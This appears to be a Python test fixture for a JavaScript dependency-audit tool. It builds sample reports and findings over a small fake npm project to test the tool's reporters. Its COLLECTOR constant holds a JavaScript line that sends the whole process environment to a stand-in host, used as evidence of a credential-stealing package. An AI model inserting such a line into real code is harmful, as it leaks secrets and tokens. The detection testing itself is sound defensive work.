"""A report as the pipeline would make it, built by hand: reporters are tested from it alone."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

from support.subjects import declares, package, use

from audit.model.capability import Authority
from audit.model.contents import Source
from audit.model.facts import Coverage
from audit.model.finding import Confidence, Finding, FindingPackage, LockfilePlace, Severity
from audit.model.package import AuditedPackage, Evidence
from audit.model.report import Report, ReportedPackage, RulePage
from audit.model.summary import summarise
from audit.rules import RULES

COLLECTOR = 'https.request({ host: "collect.invalid" }).end(JSON.stringify(process.env))'


def packages() -> tuple[AuditedPackage, ...]:
    """Return a small shop: a thief, a declared one, a harmless one, one that is missing."""
    thief = package(
        "node_modules/flat-stream-x",
        use(
            "builtin:https.request",
            "network",
            f"lib/index.js:14:9:{COLLECTOR}",
            literals=("collect.invalid",),
        ),
        use("global:process.env", "environment", "lib/index.js:14:63:process.env"),
        use("builtin:util", "none", "lib/index.js:1:1"),
        version="1.1.2",
        direct=False,
        coverage=Coverage(files=3, bytes=4_321, parsed=2, lexical=1, reachable=2),
        reach=frozenset({Authority.NETWORK, Authority.ENVIRONMENT}),
    )
    declared = package(
        "node_modules/@scope/reader",
        use("builtin:fs.readFileSync", "filesystem-read", "a.js:3:1", reachable=False),
        declaration=declares("builtin:fs"),
        dev=True,
    )
    missing = package(
        "node_modules/gone-x", source=Source.MISSING, problem="not in npm's cache", optional=True
    )
    return (declared, thief, missing, package("node_modules/plain-x"))


def finding(**fields: Any) -> Finding:
    """Return the finding about the thief; `fields` replace its own."""
    made = Finding(
        rule="suspicious-grant",
        severity=Severity.HIGH,
        confidence=Confidence.HIGH,
        message="reads the environment and talks to the network (collect.invalid)",
        help="Read what is sent, and where: contain-audit inspect flat-stream-x@1.1.2",
        lockfile=LockfilePlace("package-lock.json", 30, 5),
        package=FindingPackage("flat-stream-x", "1.1.2", "node_modules/flat-stream-x"),
        capability="builtin:https.request",
        evidence=(Evidence("lib/index.js", 14, 9, COLLECTOR),),
        path=("", "node_modules/event-pipe", "node_modules/flat-stream-x"),
        fingerprint="f" * 64,
    )
    return replace(made, **fields)


def findings() -> tuple[Finding, ...]:
    """Return one finding to act on, lower ones, and a waived one."""
    low: dict[str, Any] = {"severity": Severity.LOW, "evidence": (), "capability": None}
    return (
        finding(),
        finding(rule="install-script", severity=Severity.MODERATE, suppressed=("reviewed", "2027-06-01")),
        finding(rule="missing-integrity", severity=Severity.MODERATE, message="it has no checksum", evidence=()),
        finding(rule="unanalysed-code", message="its contents could not be had", **low),
        finding(rule="undeclared-package", message="3 packages have no declaration", package=None, path=(), **low),
    )  # fmt: skip


def report(*found: Finding, **fields: Any) -> Report:
    """Return a report of `check` over the shop; without `found`, with all of `findings()`."""
    held, results = packages(), found or findings()
    brought = {"node_modules/flat-stream-x": "event-pipe"}
    made = Report(
        command="check",
        project_path="/home/someone/shop",
        lockfile="package-lock.json",
        lockfile_version=3,
        summary=summarise(held, results, brought),
        packages=tuple(ReportedPackage(each) for each in held),
        findings=results,
        seconds=1.42,
    )
    return replace(made, **fields)


def inspected(subject: AuditedPackage, *found: Finding, **fields: Any) -> Report:
    """Return a report of `inspect` over one package."""
    made = Report(
        command="inspect",
        project_path=subject.label,
        lockfile=None,
        lockfile_version=None,
        summary=summarise((subject,), found, {}),
        packages=(ReportedPackage(subject),),
        findings=found,
    )
    return replace(made, **fields)


def presented(made: Report) -> Report:
    """Return a report as it leaves the machine: with every rule's page, in `shop/` of a repository."""
    pages = tuple(
        RulePage(each.id, each.group, each.severity, each.title, each.page)
        for each in RULES.values()
    )
    names = {finding.lockfile.file for finding in made.findings} | {made.lockfile or "package.json"}
    return replace(made, rules=pages, folder="shop", paths={name: f"shop/{name}" for name in names})
